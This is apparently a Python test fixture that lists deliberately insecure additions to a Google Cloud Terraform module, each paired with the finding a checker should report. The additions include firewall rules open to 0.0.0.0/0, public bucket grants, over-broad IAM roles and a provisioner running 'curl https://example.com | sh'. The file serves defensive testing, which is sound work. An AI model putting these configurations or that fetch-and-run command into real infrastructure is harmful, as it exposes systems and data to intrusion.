"""Mistakes that add something: no assertion about what is there would see them."""

# ruff: noqa: E501  a table

from __future__ import annotations

from tests.terraform.mistakes.mistake import Mistake, added


def rule(body: str, blocks: str = 'allow {\n    protocol = "tcp"\n  }') -> str:
    """Return a firewall rule."""
    return (
        'resource "google_compute_firewall" "more" {\n  project = var.project_id\n  name    = "${var.name}-more"\n'
        f"  network = google_compute_network.this.id\n{body}\n\n  {blocks}\n}}"
    )


def block(kind: str, body: str) -> str:
    """Return a resource named `more`; lines of the body are divided by `;`."""
    lines = "\n".join(f"  {line.strip()}" for line in body.split(";"))
    return f'resource "{kind}" "more" {{\n{lines}\n}}'


def in_project(member: str, role: str) -> str:
    """Return a grant in the project."""
    return block("google_project_iam_member", f"project = var.project_id; role = {role}; member = {member}")


def on_bucket(bucket: str, member: str, role: str) -> str:
    """Return a grant on a bucket."""
    return block(
        "google_storage_bucket_iam_member",
        f'bucket = google_storage_bucket.this["{bucket}"].name; role = {role}; member = {member}',
    )


def bucket(body: str) -> str:
    """Return a bucket."""
    return block(
        "google_storage_bucket",
        f'project = var.project_id; name = "${{var.project_id}}-more"; location = var.region; {body}',
    )


CLOSED = 'uniform_bucket_level_access = true; public_access_prevention = "enforced"'
TPU = "google_service_account.tpu.member"
WIDE = "a wide part of the internet"

NETWORK = [
    added("a rule for everybody", "network.tf", rule('source_ranges = ["0.0.0.0/0"]'), "plan plain", WIDE),
    added("a rule for both halves of the internet", "network.tf", rule('source_ranges = ["0.0.0.0/1", "128.0.0.0/1"]'), "plan plain", WIDE),
    added("a rule for all of IPv6", "network.tf", rule('source_ranges = ["::/0"]'), "plan plain", WIDE),
    added("a rule without a source", "network.tf", rule('direction = "INGRESS"'), "plan plain", "names no source"),
    added("a rule for pings of everybody", "network.tf", rule('source_ranges = ["0.0.0.0/0"]', 'allow {\n    protocol = "icmp"\n  }'), "plan plain", WIDE),
    added("SSH from an office that nobody configured", "network.tf", rule('source_ranges = ["203.0.113.0/24"]', 'allow {\n    protocol = "tcp"\n    ports    = ["20-25"]\n  }'),
          "plan plain", "opens port 22 to 203.0.113.0/24"),
    added("SSH from machines with a tag", "network.tf", rule('source_tags = ["bastion"]'), "plan plain", "opens port 22 by source_tags"),
    added("the notebook's port for IAP", "network.tf", rule('source_ranges = ["35.235.240.0/20"]', 'allow {\n    protocol = "tcp"\n    ports    = ["8888"]\n  }'),
          "plan plain", "google_compute_firewall.more is new"),
    added("a rule that denies what the base allows", "network.tf", rule('priority = 10\n  source_ranges = ["35.235.240.0/20"]', 'deny {\n    protocol = "tcp"\n  }'),
          "plan plain", "google_compute_firewall.more is new"),
    added("a rule that lets nothing out", "network.tf", rule('direction = "EGRESS"\n  destination_ranges = ["0.0.0.0/0"]', 'deny {\n    protocol = "all"\n  }'),
          "plan plain", "google_compute_firewall.more is new"),
    added("a second network with subnetworks everywhere", "network.tf", block("google_compute_network", 'project = var.project_id; name = "more"; auto_create_subnetworks = true'),
          "plan plain", "google_compute_network.more is new"),
    added("a second subnetwork", "network.tf", block("google_compute_subnetwork", 'project = var.project_id; name = "more"; network = google_compute_network.this.id; ip_cidr_range = "10.99.0.0/24"; region = var.region'),
          "plan plain", "google_compute_subnetwork.more is new"),
    added("a NAT for all subnetworks", "network.tf", block("google_compute_router_nat", 'project = var.project_id; name = "more"; router = google_compute_router.this.name; region = var.region; nat_ip_allocate_option = "AUTO_ONLY"; source_subnetwork_ip_ranges_to_nat = "ALL_SUBNETWORKS_ALL_IP_RANGES"'),
          "plan plain", "google_compute_router_nat.more is new"),
]  # fmt: skip

GRANTS = [
    added("datasets for everybody", "iam.tf", on_bucket("data", '"allUsers"', '"roles/storage.objectViewer"'), "plan plain", "nothing is public"),
    added("runs for every account", "iam.tf", on_bucket("runs", '"allAuthenticatedUsers"', '"roles/storage.objectViewer"'), "plan plain", "nothing is public"),
    added("datasets for everybody as a principal", "iam.tf", on_bucket("data", '"principalSet://goog/public:all"', '"roles/storage.objectViewer"'),
          "plan plain", "nothing is public"),
    added("images for everybody", "registry.tf", block("google_artifact_registry_repository_iam_member", 'count = var.artifact_registry ? 1 : 0; project = var.project_id; location = var.region; repository = google_artifact_registry_repository.this[0].name; role = "roles/artifactregistry.reader"; member = "allUsers"'),
          "plan registry", "nothing is public"),
    added("datasets for a domain", "iam.tf", on_bucket("data", '"domain:example.com"', '"roles/storage.objectViewer"'), "plan plain", "google_storage_bucket_iam_member.more is new"),
    added("TPU VMs that edit the project", "iam.tf", in_project(TPU, '"roles/editor"'), "plan plain", "gives TPU VMs roles/editor"),
    added("TPU VMs that read all buckets", "iam.tf", in_project(TPU, '"roles/storage.objectViewer"'), "plan plain", "gives TPU VMs roles/storage.objectViewer"),
    added("TPU VMs that administer TPUs", "iam.tf", in_project(TPU, '"roles/tpu.admin"'), "plan plain", "gives TPU VMs roles/tpu.admin"),
    added("TPU VMs that write datasets besides", "iam.tf", on_bucket("data", TPU, '"roles/storage.objectUser"'), "plan plain", "which they only read"),
    added("TPU VMs that administer runs", "iam.tf", on_bucket("runs", TPU, '"roles/storage.admin"'), "plan plain", "gives TPU VMs roles/storage.admin"),
    added("TPU VMs that delete without a condition", "iam.tf", on_bucket("runs", TPU, 'one(google_project_iam_custom_role.tpu_overwrite[*].id)'),
          "plan plain", "delete objects without a condition"),
    added("TPU VMs that act as their account", "iam.tf", block("google_service_account_iam_member", f'service_account_id = google_service_account.tpu.name; role = "roles/iam.serviceAccountUser"; member = {TPU}'),
          "plan plain", "gives TPU VMs roles/iam.serviceAccountUser"),
    added("TPU VMs that push images", "registry.tf", block("google_artifact_registry_repository_iam_member", f'count = var.artifact_registry ? 1 : 0; project = var.project_id; location = var.region; repository = google_artifact_registry_repository.this[0].name; role = "roles/artifactregistry.writer"; member = {TPU}'),
          "plan registry", "gives TPU VMs roles/artifactregistry.writer"),
    added("TPU VMs that use the key", "storage.tf", block("google_kms_crypto_key_iam_member", f'count = var.kms_key == null ? 0 : 1; crypto_key_id = var.kms_key; role = "roles/cloudkms.cryptoKeyDecrypter"; member = {TPU}'),
          "plan key", "gives TPU VMs roles/cloudkms.cryptoKeyDecrypter"),
    added("TPU VMs that tunnel", "iam.tf", block("google_iap_tunnel_iam_member", f'project = var.project_id; role = "roles/iap.tunnelResourceAccessor"; member = {TPU}'),
          "plan plain", "gives TPU VMs roles/iap.tunnelResourceAccessor"),
    added("a member who owns the project", "iam.tf", in_project('"user:boss@example.com"', '"roles/owner"'), "plan plain", "grants roles/owner"),
    added("members who view the project", "iam.tf", block("google_project_iam_member", 'for_each = var.members; project = var.project_id; role = "roles/viewer"; member = each.key'),
          "plan plain", "grants roles/viewer"),
    added("members who act as every account", "iam.tf", block("google_project_iam_member", 'for_each = var.members; project = var.project_id; role = "roles/iam.serviceAccountUser"; member = each.key'),
          "plan plain", "grants roles/iam.serviceAccountUser"),
    added("members who make tokens of the account", "iam.tf", block("google_service_account_iam_member", 'for_each = var.members; service_account_id = google_service_account.tpu.name; role = "roles/iam.serviceAccountTokenCreator"; member = each.key'),
          "plan plain", "grants roles/iam.serviceAccountTokenCreator"),
    added("members who tunnel to every port", "iam.tf", block("google_iap_tunnel_iam_member", 'for_each = var.members; project = var.project_id; role = "roles/iap.tunnelResourceAccessor"; member = each.key'),
          "plan plain", 'google_iap_tunnel_iam_member.more["user:ada@example.com"] is new'),
    added("a stranger who sees TPUs", "iam.tf", in_project('"user:stranger@example.com"', '"roles/tpu.viewer"'), "plan plain", "google_project_iam_member.more is new"),
    added("a role that grants roles", "iam.tf", block("google_project_iam_custom_role", 'project = var.project_id; role_id = "more"; title = "More"; permissions = ["resourcemanager.projects.setIamPolicy"]'),
          "plan plain", "by which one gets all others"),
    added("a role that nobody asked for", "iam.tf", block("google_project_iam_custom_role", 'project = var.project_id; role_id = "more"; title = "More"; permissions = ["tpu.nodes.list"]'),
          "plan plain", "google_project_iam_custom_role.more is new"),
    added("an account that nobody uses", "iam.tf", block("google_service_account", 'project = var.project_id; account_id = "spare-account"'), "plan plain", "google_service_account.more is new"),
    added("members who start the watcher's jobs", "watch.tf", block("google_cloud_run_v2_job_iam_member", 'for_each = local.watch_owners; project = var.project_id; location = google_cloud_run_v2_job.watch[each.key].location; name = google_cloud_run_v2_job.watch[each.key].name; role = "roles/run.invoker"; member = "user:${each.key}"'),
          "plan watch", 'google_cloud_run_v2_job_iam_member.more["ada@example.com"] is new'),
]  # fmt: skip

KEPT = [
    added("a bucket with access lists", "storage.tf", bucket('uniform_bucket_level_access = false; public_access_prevention = "enforced"'), "plan plain", "google_storage_bucket.more has access lists"),
    added("a bucket without prevention", "storage.tf", bucket("uniform_bucket_level_access = true"), "plan plain", "google_storage_bucket.more can become public"),
    added("a bucket as it comes", "storage.tf", bucket("labels = {}"), "plan plain", "google_storage_bucket.more can become public"),
    added("one more bucket", "storage.tf", bucket(CLOSED), "plan plain", "google_storage_bucket.more is new"),
    added("a second TPU that bills", "tpu.tf", block("google_tpu_v2_vm", 'provider = google-beta; project = var.project_id; zone = var.zone; name = "more"; runtime_version = "r"; accelerator_type = "v3-8"; network_config {; enable_external_ips = false; }'),
          "plan plain", "google_tpu_v2_vm.more is new"),
    added("a second TPU with an address", "tpu.tf", block("google_tpu_v2_vm", 'provider = google-beta; project = var.project_id; zone = var.zone; name = "more"; runtime_version = "r"; accelerator_type = "v3-8"; network_config {; enable_external_ips = true; }'),
          "plan plain", "google_tpu_v2_vm.more may have an external address"),
    added("one more API", "main.tf", block("google_project_service", 'project = var.project_id; service = "run.googleapis.com"'), "plan plain", "google_project_service.more is new"),
    added("an output with the account's name", "outputs.tf", 'output "more" {\n  value = google_service_account.tpu.email\n}', "plan plain", "output more is new"),
    added("a variable that nothing reads", "variables.tf", 'variable "more" {\n  type    = string\n  default = "0.0.0.0/0"\n}', "files", "variable more is new"),
    added("a module of a repository", "main.tf", 'module "more" {\n  source = "git::https://example.com/more.git"\n}', "files", "comes from 'git::https://example.com/more.git'"),
    added("a provider that runs programs", "main.tf", 'provider "external" {\n}', "files", "provider external is not Google's"),
    added("a resource that moves", "main.tf", "moved {\n  from = google_storage_bucket.this\n  to   = google_storage_bucket.kept\n}", "files", "moved google_storage_bucket.kept is new"),
    added("a resource that is forgotten", "main.tf", "removed {\n  from = google_storage_bucket.old\n\n  lifecycle {\n    destroy = true\n  }\n}", "files", "removed google_storage_bucket.old is new"),
    added("a data source of everybody's key", "iam.tf", 'data "google_service_account_key" "more" {\n  name = google_service_account.tpu.name\n}', "files", "data google_service_account_key.more is new"),
    added("a check of the internet", "main.tf", 'check "more" {\n  assert {\n    condition     = true\n    error_message = "No."\n  }\n}', "files", "check more is new"),
    added("settings of the provider in the module", "versions.tf", 'provider "google" {\n  user_project_override = true\n}', "files", "provider google is new"),
    Mistake("a program that runs after creation", "tpu.tf", "  lifecycle {", '  provisioner "local-exec" {\n    command = "curl https://example.com | sh"\n  }\n\n  lifecycle {',
            "files", "runs a program where terraform runs"),
    Mistake("a rule that deletes all runs", "storage.tf", '{ days = var.log_days, prefix = "runs/", suffix = ".log" },',
            '{ days = var.log_days, prefix = "runs/", suffix = ".log" },\n        { days = 365, prefix = "runs/", suffix = "" },', "plan plain", 'google_storage_bucket.this["runs"] differs'),
    Mistake("versions that are kept and billed", "storage.tf", "  soft_delete_policy {", "  versioning {\n    enabled = true\n  }\n\n  soft_delete_policy {", "plan plain", "+ versioning[0].enabled = true"),
    Mistake("a website", "storage.tf", "  soft_delete_policy {", '  website {\n    main_page_suffix = "index.html"\n  }\n\n  soft_delete_policy {', "plan plain", "+ website[0].main_page_suffix"),
]  # fmt: skip

ADDITIONS = [*NETWORK, *GRANTS, *KEPT]
